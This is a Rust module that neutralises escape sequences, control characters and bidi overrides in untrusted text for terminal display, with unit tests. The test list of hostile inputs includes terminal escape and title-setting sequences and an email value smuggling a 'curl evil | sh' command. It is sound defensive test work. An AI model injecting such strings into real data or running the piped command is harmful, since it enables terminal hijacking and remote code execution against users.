//! The one gate every untrusted string passes before a person reads it, in the TUI and the CLI.
//!
//! Names, emails and messages come from the server (and token commands' stderr from another
//! program): a display name holding an escape sequence must not move the cursor, change colours or
//! set the window title, and a bidi override must not reorder the rest of the row or line. One
//! rule serves every caller: line breaks and tabs become a space (the text stays on its line),
//! every other control character (C0, DEL, C1, so ESC and CSI) becomes `�`, and bidi controls are
//! dropped. [`fit`] cuts to a column width with `…`, counting wide (CJK, emoji) characters as two
//! columns and combining marks as none; [`cap`] cuts messages to a number of characters.

use std::borrow::Cow;
use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};

fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

fn needs_cleaning(c: char) -> bool {
    c.is_control() || is_bidi_control(c)
}

/// `text` safe to print: line breaks and tabs become spaces, other control characters `�`, bidi
/// controls removed. Borrowed when nothing needed changing (the common case costs no allocation).
pub fn clean(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_cleaning) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(
        text.chars()
            .filter(|c| !is_bidi_control(*c))
            .map(|c| match c {
                '\n' | '\r' | '\t' => ' ',
                c if c.is_control() => '\u{FFFD}',
                c => c,
            })
            .collect(),
    )
}

/// Cleans `text` and keeps at most `max_chars` characters, ending in `…` when cut: for messages
/// (a server's error text, a program's stderr) whose length the sender controls.
pub fn cap(text: &str, max_chars: usize) -> String {
    let text = clean(text);
    let mut chars = text.chars();
    let mut out: String = chars.by_ref().take(max_chars).collect();
    if chars.next().is_some() {
        out.push('…');
    }
    out
}

/// Cleans `text` and cuts it to at most `width` columns, ending in `…` when cut.
pub fn fit(text: &str, width: usize) -> String {
    let text = clean(text);
    if text.width() <= width {
        return text.into_owned();
    }
    if width == 0 {
        return String::new();
    }
    let mut out = String::new();
    let mut used = 0;
    for c in text.chars() {
        let w = c.width().unwrap_or(0);
        if used + w > width - 1 {
            break;
        }
        used += w;
        out.push(c);
    }
    out.push('…');
    out
}

/// Display width of `text` after cleaning.
pub fn width(text: &str) -> usize {
    clean(text).width()
}

/// Cleans `text`, cuts it to `width` columns (as [`fit`]) and pads it with spaces to exactly
/// `width` columns: the one way to align a column. `format!("{:<w$}")` pads by characters, so a
/// wide (CJK) name would push everything after it out of line.
pub fn pad(text: &str, width: usize) -> String {
    let mut out = fit(text, width);
    let used = out.width();
    out.extend(std::iter::repeat_n(' ', width.saturating_sub(used)));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The hostile strings every caller (panes, CLI tables and CSV, API errors, token-command
    /// messages) relies on this module to neutralise.
    const HOSTILE: &[&str] = &[
        "a\x1b[31mb\u{9b}c\u{7}",
        "\x1b]0;pwned\x07title",
        "abc\u{202E}fed\u{2066}",
        "x@y.example\ncurl evil | sh\r",
        "tab\there\x7f\u{0}",
        "\u{200F}\u{061C}rtl",
    ];

    #[test]
    fn pad_aligns_by_columns_not_characters() {
        assert_eq!(pad("陈浩然", 8), "陈浩然  ");
        assert_eq!(width(&pad("陈浩然", 8)), 8);
        assert_eq!(pad("Ada", 5), "Ada  ");
        assert_eq!(pad("Lovelace", 5), "Love…");
        // A cut never leaves half a wide character: the column stays exactly as wide.
        assert_eq!(width(&pad("陈浩然", 4)), 4);
    }

    #[test]
    fn hostile_strings_lose_every_control_and_bidi_character() {
        for text in HOSTILE {
            let cleaned = clean(text);
            assert!(
                !cleaned.chars().any(needs_cleaning),
                "{text:?} became {cleaned:?}"
            );
            assert!(!cap(text, 5).chars().any(needs_cleaning));
            assert!(!fit(text, 5).chars().any(needs_cleaning));
        }
    }

    #[test]
    fn escape_sequences_and_bidi_overrides_are_neutralised() {
        assert_eq!(
            clean("a\x1b[31mb\u{9b}c\u{7}"),
            "a\u{FFFD}[31mb\u{FFFD}c\u{FFFD}"
        );
        assert_eq!(clean("abc\u{202E}fed\u{2066}"), "abcfed");
        assert!(matches!(clean("plain Müller 山田"), Cow::Borrowed(_)));
    }

    #[test]
    fn line_breaks_keep_the_text_on_one_line() {
        assert_eq!(clean("two\nlines\r\tend"), "two lines  end");
    }

    #[test]
    fn cap_counts_characters_and_marks_the_cut() {
        assert_eq!(cap("abcdef", 3), "abc…");
        assert_eq!(cap("abc", 3), "abc");
        assert_eq!(cap("山田太郎", 2), "山田…");
    }

    #[test]
    fn fit_counts_columns_not_bytes() {
        assert_eq!(fit("山田太郎", 5), "山田…");
        assert_eq!(width(&fit("山田太郎", 5)), 5);
        assert_eq!(fit("Zoë", 3), "Zoë");
        // A combining mark takes no column.
        assert_eq!(fit("e\u{301}abc", 4), "e\u{301}abc");
        assert_eq!(fit("Alexandria", 5), "Alex…");
        assert_eq!(fit("x", 0), "");
    }
}
